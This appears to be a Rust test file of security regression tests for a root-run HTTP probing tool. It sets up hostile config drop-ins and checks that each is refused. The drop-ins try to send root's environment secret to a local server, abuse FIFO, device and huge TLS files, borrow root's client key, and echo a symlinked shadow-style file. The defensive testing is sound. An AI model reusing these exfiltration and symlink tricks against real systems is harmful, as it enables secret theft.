//! Hostile inputs found in review: each test is the attack, and what must not happen.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::{Arc, Mutex};

use crate::common::{self, rw};

fn write(path: &Path, text: &str, mode: u32) {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A server that records every request head it reads and answers 200.
fn recording_server() -> (u16, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 8192];
            let n = s.read(&mut buf).unwrap_or(0);
            log.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        }
    });
    (port, seen)
}

/// As root, an `include:` names a directory its service's user can write (the README's own
/// `/srv/app/routewatch.yaml`). Whoever writes there must not get root's `${VAR}` secrets
/// (`/etc/routewatch/environment`) sent to a host of their choice: such a drop-in blocks
/// recovery, and its variables are not expanded either.
#[test]
fn an_untrusted_dropin_cannot_send_roots_environment_anywhere() {
    if common::skip_unless_root(common::TRUST_NEEDS_ROOT) {
        return;
    }
    let (port, seen) = recording_server();
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let cfg = dir.path().join("probes.yaml");
    let app = dir.path().join("app");
    write(
        &cfg,
        &format!("include: [ {}/*.yaml ]\ntargets: []\n", app.display()),
        0o644,
    );
    std::fs::create_dir_all(&app).unwrap();
    std::fs::set_permissions(&app, std::fs::Permissions::from_mode(0o777)).unwrap();
    write(
        &app.join("evil.yaml"),
        &format!(
            "targets:\n  - name: evil\n    base_url: http://127.0.0.1:{port}\n    headers: {{ X-Leak: \"${{RW_REVIEW_SECRET}}\" }}\n    routes: [ {{ path: \"/?k=${{RW_REVIEW_SECRET}}\", method: POST, body: \"${{RW_REVIEW_SECRET}}\" }} ]\n"
        ),
        0o666,
    );
    let o = rw()
        .args(["check", "--no-recover", "--config"])
        .arg(&cfg)
        .arg("--state-dir")
        .arg(dir.path().join("state"))
        .env("RW_REVIEW_SECRET", "root-only-s3cret")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr);
    let got = seen.lock().unwrap().clone();
    assert!(
        got.iter().all(|r| !r.contains("root-only-s3cret")),
        "root's secret went to the drop-in writer's server: {got:?}\n{stderr}"
    );
    assert_eq!(o.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("evil.yaml") && stderr.contains("${RW_REVIEW_SECRET}"),
        "{stderr}"
    );
}

/// `validate` on `yaml` (written as `probes.yaml` in `dir`), under an address-space limit so
/// that reading without bound ends the child instead of the machine, and a kill long after
/// the milliseconds a correct refusal needs.
fn validate_bounded(dir: &Path, yaml: &str) -> (Option<i32>, String) {
    let cfg = dir.join("probes.yaml");
    write(&cfg, yaml, 0o644);
    let bin = assert_cmd::cargo::cargo_bin("routewatch");
    let o = assert_cmd::Command::new("sh")
        .args(["-c", "ulimit -v 2097152 && exec \"$0\" \"$@\""])
        .arg(&bin)
        .args(["validate", "--config"])
        .arg(&cfg)
        .env_remove("ROUTEWATCH_CONFIG")
        .env_remove("JOURNAL_STREAM")
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .unwrap();
    (
        o.status.code(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// A PEM file named by `tls` (`ca_file`, `cert_file`) that is a FIFO, a device or a huge file
/// (a drop-in's relative `ca.pem` in a directory its app can write, replaced by one): refused
/// at once, never a read that blocks forever or fills root's memory.
#[test]
fn tls_files_that_are_fifos_devices_or_huge_are_refused_without_reading_them() {
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let fifo = dir.path().join("fifo.pem");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &fifo,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        0,
    )
    .unwrap();
    let huge = dir.path().join("huge.pem");
    // Sparse: no disk used, but a read of the whole would be 64 GiB.
    std::fs::File::create(&huge)
        .unwrap()
        .set_len(64 << 30)
        .unwrap();
    for (what, file) in [
        ("ca_file", "fifo.pem"),
        ("ca_file", "/dev/zero"),
        ("ca_file", "huge.pem"),
        ("cert_file", "fifo.pem"),
        ("cert_file", "/dev/zero"),
        ("cert_file", "huge.pem"),
    ] {
        let tls = if what == "ca_file" {
            format!("{{ ca_file: {file} }}")
        } else {
            format!("{{ cert_file: {file}, key_file: key.pem }}")
        };
        let yaml = format!(
            "targets:\n  - name: a\n    base_url: https://127.0.0.1:1\n    tls: {tls}\n    routes: [ {{ path: / }} ]\n"
        );
        let (code, stderr) = validate_bounded(dir.path(), &yaml);
        assert_eq!(code, Some(2), "{what} {file}: {stderr}");
        assert!(
            stderr.contains(&format!("tls.{what}")),
            "{what} {file}: {stderr}"
        );
    }
}

/// As root, a drop-in others can write may not lend root's private key: with it, whoever
/// writes the file could make root present that client certificate, with a method, path and
/// body of their choosing, to any server that trusts it.
#[test]
fn an_untrusted_dropin_cannot_use_roots_client_key() {
    if common::skip_unless_root(common::TRUST_NEEDS_ROOT) {
        return;
    }
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let cert = rcgen::CertificateParams::new(vec!["routewatch".into()])
        .unwrap()
        .self_signed(&key)
        .unwrap();
    let keys = dir.path().join("keys");
    write(&keys.join("client.pem"), &cert.pem(), 0o644);
    write(&keys.join("client.key"), &key.serialize_pem(), 0o600);
    let cfg = dir.path().join("probes.yaml");
    let app = dir.path().join("app");
    write(
        &cfg,
        &format!("include: [ {}/*.yaml ]\ntargets: []\n", app.display()),
        0o644,
    );
    let dropin = format!(
        "targets:\n  - name: evil\n    base_url: https://127.0.0.1:1\n    tls: {{ cert_file: {0}/client.pem, key_file: {0}/client.key }}\n    routes: [ {{ path: /admin, method: DELETE }} ]\n",
        keys.display()
    );
    write(&app.join("evil.yaml"), &dropin, 0o644);
    // Trusted, the same drop-in loads: root wrote it.
    let o = rw()
        .args(["validate", "--config"])
        .arg(&cfg)
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    std::fs::set_permissions(&app, std::fs::Permissions::from_mode(0o777)).unwrap();
    let o = rw()
        .args(["validate", "--config"])
        .arg(&cfg)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("evil.yaml") && stderr.contains("tls.key_file"),
        "{stderr}"
    );
}

/// As root, a drop-in others can write is read (its targets are probed, recovery is blocked),
/// but its text is not theirs to see through routewatch: a symlink planted in an included
/// directory that points at a root-only file (`/etc/shadow`) must not have that file's lines
/// quoted in an error, on stderr (the journal) or in the Nagios status line.
#[test]
fn an_untrusted_dropin_linked_to_a_root_only_file_does_not_echo_it() {
    if common::skip_unless_root(common::TRUST_NEEDS_ROOT) {
        return;
    }
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let shadow = dir.path().join("shadow");
    let app = dir.path().join("app");
    let cfg = dir.path().join("probes.yaml");
    write(
        &cfg,
        &format!("include: [ {}/*.yaml ]\ntargets: []\n", app.display()),
        0o644,
    );
    std::fs::create_dir_all(&app).unwrap();
    std::fs::set_permissions(&app, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::os::unix::fs::symlink(&shadow, app.join("evil.yaml")).unwrap();
    for content in [
        "root:$6$SECRETHASH0123:19000:0:99999:7:::\n",
        "password = \"SECRETHASH0123\"\n",
        "targets:\n  - SECRETHASH0123\n",
        "{\"SECRETHASH0123\": 1}\n",
    ] {
        write(&shadow, content, 0o600);
        for args in [
            &["validate", "--config"][..],
            &["check", "--format", "nagios", "--no-recover", "--config"][..],
        ] {
            let o = rw().args(args).arg(&cfg).output().unwrap();
            let out = format!(
                "{}{}",
                String::from_utf8_lossy(&o.stdout),
                String::from_utf8_lossy(&o.stderr)
            );
            assert!(
                out.contains("evil.yaml") && !out.contains("SECRETHASH"),
                "{args:?} {content:?}: {out}"
            );
        }
    }
}
